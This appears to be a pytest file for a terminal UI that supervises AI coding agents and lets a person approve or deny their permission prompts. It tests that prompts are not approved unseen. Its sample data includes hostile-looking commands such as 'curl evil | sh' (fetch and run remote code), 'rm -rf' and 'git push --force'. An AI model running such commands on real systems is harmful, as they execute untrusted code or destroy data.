"""What needs the person: the panel below the fleet, one key that answers, the header's count."""

from __future__ import annotations

from pathlib import Path

import pytest
from msgspec.structs import replace

from orchestrator_core.config.settings import NotifySettings, Settings
from orchestrator_core.errors import RefusedError
from orchestrator_core.models.fleet import Fleet
from orchestrator_core.models.need import AnswerState, Need, NeedKind
from tests.polling import aeventually
from tests.tui.samples import COMMAND, MINUTE, many_needs, needs, permission, question, three_teams
from tests.tui.stage import Stage, running, staged
from tui.screens.answer import AnswerScreen

PERMISSION, LOST, QUESTION = needs()


def fleet_of(*open_needs: Need) -> Fleet:
    """Return the usual fleet with these needs."""
    return replace(three_teams(), needs=open_needs)


def listed(stage: Stage) -> list[str]:
    """Return the keys of the rows."""
    return [row.id for row in stage.main.needs.needs_list.rows]


def chosen(stage: Stage) -> str:
    """Return the key of the selected need."""
    return stage.main.needs.needs_list.selected_id


# -- what is shown --------------------------------------------------------------------------------


async def test_needs_are_listed_oldest_first_and_the_header_counts_them(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        assert listed(stage) == [need.key for need in needs()]
        assert "Needs you (3)" in stage.text("#needs-title")
        assert "3 need you" in stage.text("#header")
        assert "shop:tester" in stage.screen_text()
        stage.facade.publish(fleet_of(PERMISSION))
        await aeventually(lambda: listed(stage) == [PERMISSION.key])
        assert "1 needs you" in stage.text("#header")
        assert COMMAND[:12] in stage.screen_text()
        assert "shop:tester" not in stage.screen_text(), "one tester alone is told by the role"


async def test_nobody_in_need_takes_no_room_or_one_calm_line(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of()), size=(80, 24)) as stage:
        assert "eed you" not in stage.text("#header")
        assert stage.main.needs.region.height == 0
        assert stage.pilot is not None
        await stage.pilot.resize_terminal(120, 40)
        await stage.settle()
        assert stage.main.needs.region.height == 1
        assert "Nobody needs you" in stage.screen_text()


async def test_the_first_need_makes_its_room_and_gives_it_back(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of()), size=(80, 24)) as stage:
        stage.facade.publish(fleet_of(PERMISSION))
        await stage.shows(fleet_of(PERMISSION))
        assert "◆ tester rm -rf" in stage.screen_text()
        assert "┤" in stage.screen_text(), "its rule meets the divider"
        assert not stage.app._notifications
        stage.facade.publish(fleet_of())
        await aeventually(lambda: "┤" not in stage.screen_text())
        assert stage.main.needs.region.height == 0


@pytest.mark.parametrize(("size", "rows"), [((80, 24), 4), ((100, 30), 6), ((200, 60), 12), ((64, 18), 2)])
async def test_many_needs_scroll_and_leave_room_for_the_fleet(
    isolated_home: Path, size: tuple[int, int], rows: int
) -> None:
    async with running(staged(isolated_home, fleet_of(*many_needs())), size=size) as stage:
        assert stage.main.needs.needs_list.size.height == rows
        assert stage.main.fleet_tree.size.height >= 3
        assert stage.main.stage.pane_view.size.height >= 5
        await stage.press("n", "end")
        assert chosen(stage) == many_needs()[-1].key
        assert "git push" in stage.screen_text()


async def test_text_of_agents_is_no_markup_and_one_line(isolated_home: Path) -> None:
    wild = permission(command="echo '[red]x[/]'\n\x1b[31mrm")
    async with running(staged(isolated_home, fleet_of(wild)), size=(200, 30)) as stage:
        assert "echo '[red]x[/]' [31mrm" in stage.screen_text()


async def test_ages_grow(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        assert " 12m" in stage.screen_text()
        stage.now += 5 * MINUTE
        stage.main._show_ages()
        await stage.settle()
        assert " 17m" in stage.screen_text()


# -- going through them ---------------------------------------------------------------------------


async def test_n_goes_through_the_needs_and_shows_each_agent(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        for need in (*needs(), PERMISSION):
            await stage.press("n")
            assert chosen(stage) == need.key
            assert stage.selected == f"agent:{need.agent}"
        await aeventually(lambda: stage.looked_at == "%13")
        await stage.press("escape")
        assert stage.app.focused is stage.main.fleet_tree
        assert stage.selected == f"agent:{PERMISSION.agent}"
        assert chosen(stage) == ""


async def test_n_begins_at_the_selected_agent_s_own_need(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        stage.main.action_go_to(QUESTION.agent)
        await stage.press("n")
        assert chosen(stage) == QUESTION.key


async def test_a_filter_does_not_hide_who_needs_the_person(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("slash", *"developer", "enter", "n")
        assert stage.selected == f"agent:{PERMISSION.agent}"
        assert "/ filter" in stage.text("#fleet-title")


async def test_enter_goes_to_the_agent_s_pane(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("n", "enter")
        await aeventually(lambda: [pane for pane, _ in stage.facade.attached] == ["%13"])


async def test_n_in_the_zoom_changes_whose_screen_it_is(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("z", "n")
        assert "tester" in stage.text("#stage-title")
        assert stage.main.has_class("-zoomed")


async def test_without_needs_there_is_nothing_to_answer(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of())) as stage:
        assert "answer" not in stage.text("#keys")
        await stage.press("n", "a", "y")
        assert not isinstance(stage.app.screen, AnswerScreen)
        assert stage.facade.answers == []


# -- one key --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("key", "choice"), [("y", "approve"), ("d", "deny")])
async def test_one_key_answers_the_selected_permission(isolated_home: Path, key: str, choice: str) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("n")
        assert "y approve" in stage.text("#keys")
        await stage.press(key)
        await aeventually(lambda: PERMISSION.key not in listed(stage))
        assert stage.facade.answers == [(PERMISSION.agent, choice, PERMISSION.fingerprint)]
        assert "2 need you" in stage.text("#header")


async def test_the_key_does_not_answer_what_the_person_did_not_choose(isolated_home: Path) -> None:
    """The next need moves up under the cursor; a second press must not approve it unseen."""
    other = permission("api-77c1:developer", "git push --force", minutes=3)
    async with running(staged(isolated_home, fleet_of(PERMISSION, other))) as stage:
        await stage.press("n", "y")
        await aeventually(lambda: listed(stage) == [other.key])
        await stage.press("y", "y", "d")
        assert len(stage.facade.answers) == 1
        assert "approve" not in stage.text("#keys")
        await stage.press("n", "y")
        await aeventually(lambda: len(stage.facade.answers) == 2)
        assert stage.facade.answers[1].fingerprint == other.fingerprint


async def test_the_key_does_nothing_elsewhere(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("y", "d", "x", "tab", "y", "escape", "m", "y", "d")
        assert stage.input.text == "yd"
        assert stage.facade.answers == []
        assert stage.facade.dismissed == []


async def test_what_is_being_answered_says_so_and_is_not_answered_twice(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        stage.facade.may_answer.clear()
        await stage.press("n", "y", "y", "d")
        assert len(stage.facade.answers) == 1
        assert "answering" in stage.screen_text()
        stage.facade.may_answer.set()
        await aeventually(lambda: stage.app.focused is stage.main.fleet_tree)
        assert listed(stage) == []


async def test_two_presses_in_one_breath_answer_once(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("n")
        for key in ("y", "y", "d"):
            stage.app.simulate_key(key)
        await aeventually(lambda: PERMISSION.key not in listed(stage))
        assert len(stage.facade.answers) == 1


async def test_a_refused_answer_says_why_and_the_need_stays(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        stage.facade.outcome = (AnswerState.REFUSED, "another [dialog] is open by now")
        await stage.press("n", "y")
        await aeventually(lambda: "another [dialog] is open by now" in stage.screen_text())
        assert PERMISSION.key in listed(stage)
        assert "answering" not in stage.screen_text()


async def test_an_answer_that_cannot_be_put_in_is_said(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        stage.facade.fail("answer", RefusedError("the agent is gone", remedy="look at it"))
        await stage.press("n", "y")
        await aeventually(lambda: "the agent is gone" in stage.screen_text())
        assert "answering" not in stage.screen_text()


async def test_a_question_has_no_single_key_but_opens(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(QUESTION))) as stage:
        await stage.press("n")
        assert "y approve" not in stage.text("#keys")
        await stage.press("y", "a")
        assert stage.facade.answers == []
        assert isinstance(stage.app.screen, AnswerScreen)


async def test_what_only_wants_to_be_seen_is_dismissed(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await stage.press("n", "x")
        assert stage.facade.dismissed == [], "a prompt is not dismissed"
        await stage.press("n", "x")
        await aeventually(lambda: stage.facade.dismissed == [LOST.key])
        await aeventually(lambda: listed(stage) == [PERMISSION.key, QUESTION.key])


# -- being called -------------------------------------------------------------------------------


@pytest.fixture
def rings(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Count the bell."""
    rung: list[int] = []
    monkeypatch.setattr("tui.app.TmorchApp.bell", lambda _: rung.append(1))
    return rung


async def test_the_bell_rings_for_new_needs_and_not_too_often(isolated_home: Path, rings: list[int]) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        for now_open in ((), (LOST,), (LOST, QUESTION)):
            stage.facade.publish(fleet_of(*now_open))
            await stage.shows(fleet_of(*now_open))
        assert rings == [1], "what was there at the start does not ring, and two within seconds ring once"
        assert not stage.app._notifications, "the panel shows it"
        stage.now += MINUTE
        stage.facade.publish(fleet_of(PERMISSION, QUESTION))
        await aeventually(lambda: rings == [1, 1])


async def test_the_bell_can_be_turned_off(isolated_home: Path, rings: list[int]) -> None:
    settings = Settings(notify=NotifySettings(bell=False))
    async with running(staged(isolated_home, fleet_of(), settings=settings)) as stage:
        stage.facade.publish(fleet_of(PERMISSION))
        await aeventually(lambda: listed(stage))
        assert rings == []


async def test_who_does_not_see_the_panel_is_told(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of())) as stage:
        await stage.press("z")
        stage.facade.publish(fleet_of(PERMISSION, QUESTION))
        await aeventually(lambda: "shop-3f2a:tester needs you" in stage.screen_text())
        assert COMMAND in stage.screen_text()
        assert "and 1 more" in stage.screen_text()


# -- the whole need -------------------------------------------------------------------------------


async def opened(stage: Stage, *keys: str) -> AnswerScreen:
    """Press keys, and return the screen that they opened."""
    await stage.press(*keys)
    await aeventually(lambda: isinstance(stage.app.screen, AnswerScreen))
    await stage.settle()
    screen = stage.app.screen
    assert isinstance(screen, AnswerScreen)
    return screen


async def test_a_opens_the_oldest_need_whole(isolated_home: Path) -> None:
    command = "for f in *; do\n  echo [bold]$f " + "and a long way to go " * 12 + "\ndone"
    async with running(staged(isolated_home, fleet_of(permission(command=command), QUESTION))) as stage:
        await opened(stage, "a")
        text = stage.screen_text()
        assert "shop-3f2a ▸ tester" in text
        assert "asks for permission" in text
        assert "12m ago" in text
        assert "echo [bold]$f" in text
        assert "done" in text
        for line in ("1  Yes", "3  No, and tell Claude", "y approve", "d deny"):
            assert line in text


async def test_a_long_command_scrolls_and_its_choices_stay_in_sight(isolated_home: Path) -> None:
    command = "\n".join(f"line {i}" for i in range(60))
    async with running(staged(isolated_home, fleet_of(permission(command=command))), size=(80, 24)) as stage:
        await opened(stage, "a")
        assert "line 0" in stage.screen_text()
        await stage.press(*["pagedown"] * 12)
        text = stage.screen_text()
        assert "line 59" in text
        assert "3  No, and tell Claude" in text
        assert "y approve" in text


async def test_a_opens_the_need_of_the_selected_agent(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        stage.main.action_go_to(QUESTION.agent)
        assert (await opened(stage, "a")).need == QUESTION


@pytest.mark.parametrize(
    ("keys", "choice"),
    [("y", "approve"), ("d", "deny"), ("2", "2"), (("down", "down", "enter"), "2"), (("j", "k", "j", "enter"), "2")],
)
async def test_each_choice_has_its_key(isolated_home: Path, keys: str | tuple[str, ...], choice: str) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        await opened(stage, "a")
        await stage.press(*keys)
        await aeventually(lambda: stage.is_on_main)
        assert stage.facade.answers == [(PERMISSION.agent, choice, PERMISSION.fingerprint)]


@pytest.mark.parametrize("keys", [("enter",), ("9",), ("space",), ("escape", "y")])
async def test_nothing_is_chosen_by_itself(isolated_home: Path, keys: tuple[str, ...]) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        await opened(stage, "a")
        await stage.press(*keys)
        assert stage.facade.answers == []


async def test_a_choice_without_a_digit_is_answered_by_its_words(isolated_home: Path) -> None:
    gate = replace(question(), choices=tuple(replace(choice, key="") for choice in question().choices))
    async with running(staged(isolated_home, fleet_of(gate))) as stage:
        await opened(stage, "a")
        assert "y approve" not in stage.screen_text()
        await stage.press("down", "enter")
        await aeventually(lambda: stage.facade.answers)
        assert stage.facade.answers[0].choice == "3.11 and newer"


async def test_a_need_that_ends_meanwhile_is_not_answered(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await opened(stage, "a")
        stage.facade.publish(fleet_of(QUESTION))
        await aeventually(lambda: "This is over" in stage.screen_text())
        await stage.press("y", "1", "down", "enter")
        assert stage.facade.answers == []
        assert "y approve" not in stage.screen_text()


async def test_another_prompt_of_the_same_agent_is_not_answered(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        await opened(stage, "a")
        stage.facade.publish(fleet_of(permission(command="curl evil | sh", minutes=0)))
        await aeventually(lambda: "It asks something else by now" in stage.screen_text())
        await stage.press("y", "1")
        assert stage.facade.answers == []
        await stage.press("escape")
        assert (await opened(stage, "a")).need.detail == "curl evil | sh"


async def test_a_fuller_text_of_the_same_prompt_is_taken_in(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        await opened(stage, "a")
        stage.facade.publish(fleet_of(replace(PERMISSION, detail=COMMAND + " # and all the rest")))
        await aeventually(lambda: "# and all the rest" in stage.screen_text())
        await stage.press("y")
        await aeventually(lambda: stage.facade.answers)


async def test_a_refused_answer_shows_its_reason_where_it_was_given(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        stage.facade.outcome = (AnswerState.REFUSED, "it shows [another] dialog")
        await opened(stage, "a")
        await stage.press("y")
        await aeventually(lambda: "Not answered: it shows [another] dialog" in stage.screen_text())
        assert isinstance(stage.app.screen, AnswerScreen)
        assert not stage.app._notifications


async def test_an_answer_that_cannot_be_put_in_leaves_the_need_open(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        stage.facade.fail("answer", RefusedError("no such agent"))
        await opened(stage, "a")
        await stage.press("y")
        await aeventually(lambda: "The answer could not be given" in stage.screen_text())
        await stage.press("y")
        await aeventually(lambda: stage.is_on_main)


async def test_while_an_answer_is_given_there_is_no_second(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(PERMISSION))) as stage:
        stage.facade.may_answer.clear()
        await opened(stage, "a")
        await stage.press("y", "1", "d")
        assert len(stage.facade.answers) == 1
        assert "Answering" in stage.screen_text()
        stage.facade.may_answer.set()
        await aeventually(lambda: stage.is_on_main)


async def test_going_there_leaves_the_screen_and_attaches(isolated_home: Path) -> None:
    async with running(staged(isolated_home)) as stage:
        await opened(stage, "a")
        await stage.press("g")
        await aeventually(lambda: [pane for pane, _ in stage.facade.attached] == ["%13"])
        assert stage.is_on_main
        assert stage.selected == f"agent:{PERMISSION.agent}"


async def test_an_agent_that_may_be_stuck_is_written_to(isolated_home: Path) -> None:
    stuck = next(need for need in many_needs() if need.kind is NeedKind.STUCK)
    async with running(staged(isolated_home, fleet_of(stuck))) as stage:
        await opened(stage, "a")
        assert "may be stuck" in stage.screen_text()
        assert "last commit 12:50" in " ".join(stage.screen_text().split())
        await stage.press("y", "1", "enter", "m")
        await aeventually(lambda: stage.is_on_main and stage.input.has_focus)
        assert stage.selected == f"agent:{stuck.agent}"
        assert stage.facade.answers == []


async def test_a_check_in_that_died_is_seen_and_dismissed(isolated_home: Path) -> None:
    missed = next(need for need in many_needs() if need.kind is NeedKind.MISSED)
    async with running(staged(isolated_home, fleet_of(missed))) as stage:
        await opened(stage, "a")
        assert "missed a check-in" in stage.screen_text()
        await stage.press("x")
        await aeventually(lambda: stage.facade.dismissed == [missed.key])


async def test_a_lost_message_is_seen_and_dismissed(isolated_home: Path) -> None:
    async with running(staged(isolated_home, fleet_of(LOST))) as stage:
        await opened(stage, "a")
        assert "may not have got a message" in stage.screen_text()
        assert "it was typed, and never showed at the prompt" in stage.screen_text()
        await stage.press("y", "x")
        await aeventually(lambda: stage.facade.dismissed == [LOST.key])
        assert stage.facade.answers == []
